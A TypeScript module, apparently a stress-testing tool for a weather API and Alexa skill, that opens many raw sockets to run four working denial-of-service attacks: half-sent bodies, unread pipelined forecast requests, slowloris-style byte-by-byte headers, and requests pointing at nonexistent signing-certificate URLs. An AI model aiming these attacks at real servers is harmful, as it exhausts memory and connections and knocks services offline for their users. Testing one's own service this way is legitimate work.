import { connect, type Socket } from 'node:net';
import type { Target } from './requests.ts';

/** A running attack. */
export interface Attack {
  stop: () => void;
}

/** Attacks on memory and connections, by name. */
export const attacks = { held, unread, slow, certificates } satisfies Record<
  string,
  (target: Target, count: number) => Attack
>;

/** Bodies of which only half is sent. */
function held({ url }: Target, count: number): Attack {
  const half = 'x'.repeat(30_000);
  return onSockets(url, count, (socket) => {
    socket.write(
      `POST /alexa HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n${half}`,
    );
  });
}

/** Pipelined requests for hourly forecasts, which are large, whose responses are never read. */
function unread({ url, key }: Target, count: number): Attack {
  return onSockets(url, count, (socket, index) => {
    socket.pause();
    const requests = Array.from({ length: 64 }, (_, at) => {
      const latitude = (48 + ((index * 64 + at) % 60) / 10).toFixed(1);
      return `GET /v4_0/forecast/${latitude}/10.0/hourly HTTP/1.1\r\nHost: x\r\nx-api-key: ${key}\r\n\r\n`;
    });
    socket.write(requests.join(''));
  });
}

/** Headers that arrive byte by byte. */
function slow({ url }: Target, count: number): Attack {
  return onSockets(url, count, (socket) => {
    socket.write('GET /v4_0/stations HTTP/1.1\r\nHost: x\r\nX-A: ');
    const dripping = setInterval(() => socket.write('a'), 1000);
    socket.on('close', () => clearInterval(dripping));
  });
}

/** Turns whose certificate URL does not exist. */
function certificates({ url }: Target, count: number): Attack {
  return onSockets(url, count, (socket, index) => {
    const body = JSON.stringify({ version: '1.0', request: {} });
    socket.write(
      [
        'POST /alexa HTTP/1.1',
        'Host: x',
        `SignatureCertChainUrl: https://s3.amazonaws.com/echo.api/load-${index}.pem`,
        'Signature-256: AAAA',
        'Content-Type: application/json',
        `Content-Length: ${body.length}`,
        '',
        body,
      ].join('\r\n'),
    );
  });
}

function onSockets(
  url: string,
  count: number,
  begin: (socket: Socket, index: number) => void,
): Attack {
  const { port, hostname } = new URL(url);
  const sockets = new Set<Socket>();
  for (let index = 0; index < count; index++) {
    const socket = connect({ port: Number(port), host: hostname });
    sockets.add(socket);
    socket.on('connect', () => begin(socket, index));
    socket.on('error', () => undefined);
    socket.on('close', () => sockets.delete(socket));
  }
  return {
    stop() {
      for (const socket of sockets) socket.destroy();
    },
  };
}
